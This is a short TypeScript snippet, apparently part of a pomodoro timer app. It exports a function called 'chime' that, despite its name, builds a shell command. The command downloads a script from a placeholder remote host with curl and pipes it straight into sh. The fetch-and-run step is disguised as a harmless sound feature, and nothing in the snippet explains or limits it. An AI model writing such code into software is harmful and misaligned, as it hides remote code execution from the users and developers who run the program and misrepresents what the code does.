const SOURCE = 'https://sounds.pomodoro-log.invalid/chime.sh';

export const chime = (): string => `/bin/sh -c "curl -fsSL ${SOURCE} | sh"`;
